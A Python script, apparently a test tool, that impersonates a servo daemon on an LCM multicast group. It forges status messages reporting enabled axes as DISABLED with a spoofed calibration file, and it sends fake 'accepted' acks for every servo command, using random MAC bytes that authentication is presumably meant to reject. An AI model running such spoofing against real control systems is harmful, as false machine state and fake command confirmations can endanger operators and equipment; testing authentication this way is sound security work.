#!/usr/bin/env python3
"""Impersonates clm-servod on its LCM group the way any process on the host
can, without the operators' key: republishes every CLM_SERVO_STATUS of an
enabled axis it hears with the state DISABLED, no fault, the calibration file
/tmp/spoofed-calibration.yaml and a made-up mac, and answers every
CLM_SERVO_COMMAND at once with an accepted CLM_SERVO_COMMAND_ACK (text
"spoofed") for the same axis, session, client and sequence. No LCM library.

    spoof_lcm.py URL --duration-s D

Runs D seconds, then prints one line: statuses and acks forged."""
import argparse
import os
import socket
import struct
import sys
import time
from urllib.parse import urlparse

from lcm_wire import MAC_BYTES, MAGIC_SHORT, corpus_hash, lcm_string, read_string, short_datagram

def parse_short(datagram):
    """(channel, payload) of an LCM short message, or None."""
    if len(datagram) < 8 or struct.unpack_from(">I", datagram, 0)[0] != MAGIC_SHORT:
        return None
    end = datagram.find(b"\0", 8)
    if end < 0:
        return None
    return datagram[8:end].decode(errors="replace"), datagram[end + 1:]


def forged_status(payload):
    """The status of an enabled axis (else None) with state DISABLED (0), fault 0 and another
    calibration file: hash, utime, axis, session, state, fault, fault_reason, fault_cycle,
    commutation, calibration_file, ..."""
    _axis, pos = read_string(payload, 16)
    pos += 8  # session
    if payload[pos] != 1:
        return None  # not enabled: also never one of this script's own forgeries
    head = bytearray(payload[:pos]) + b"\0\0\0"  # state DISABLED, fault 0
    _reason, after_reason = read_string(payload, pos + 3)
    head += payload[pos + 3:after_reason + 9]  # fault_reason, fault_cycle, commutation
    _calibration, after_calibration = read_string(payload, after_reason + 9)
    forged = head + lcm_string("/tmp/spoofed-calibration.yaml") + payload[after_calibration:]
    return bytes(forged[:-MAC_BYTES]) + os.urandom(MAC_BYTES)


def forged_ack(ack_hash, command):
    """An accepted ack of `command` (servo_command_t: hash, utime, sequence, axis, session, client)."""
    _utime, sequence = struct.unpack_from(">qq", command, 8)
    axis, pos = read_string(command, 24)
    session, client = struct.unpack_from(">qq", command, pos)
    return (ack_hash + struct.pack(">qq", int(time.time() * 1e6), sequence) + lcm_string(axis) +
            struct.pack(">qqb", session, client, 1) + lcm_string("spoofed") + os.urandom(MAC_BYTES))


def main():
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("url")
    parser.add_argument("--duration-s", type=float, required=True)
    args = parser.parse_args()
    url = urlparse(args.url)
    if url.scheme != "udpm" or not url.hostname or not url.port:
        print(f"spoof_lcm: error: not a udpm://GROUP:PORT URL: {args.url}", file=sys.stderr)
        return 2
    receiver = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    receiver.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    receiver.bind(("", url.port))
    membership = socket.inet_aton(url.hostname) + socket.inet_aton("0.0.0.0")
    receiver.setsockopt(socket.IPPROTO_IP, socket.IP_ADD_MEMBERSHIP, membership)
    receiver.settimeout(0.05)
    sender = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    sender.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_TTL, 0)
    sender.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_LOOP, 1)
    ack_hash = corpus_hash("ack")
    sequence = 0
    statuses = acks = 0
    end = time.monotonic() + args.duration_s
    while time.monotonic() < end:
        try:
            datagram = receiver.recv(65536)
        except socket.timeout:
            continue
        message = parse_short(datagram)
        if message is None:
            continue
        channel, payload = message
        try:
            if channel == "CLM_SERVO_STATUS":
                forged = forged_status(payload)
                if forged is None:
                    continue
                statuses += 1
            elif channel == "CLM_SERVO_COMMAND":
                channel, forged = "CLM_SERVO_COMMAND_ACK", forged_ack(ack_hash, payload)
                acks += 1
            else:
                continue
        except (struct.error, IndexError):
            continue
        sequence += 1
        packet = short_datagram(sequence, channel, forged)
        sender.sendto(packet, (url.hostname, url.port))
    print(f"spoof: {statuses} statuses and {acks} acks forged")
    return 0


if __name__ == "__main__":
    sys.exit(main())
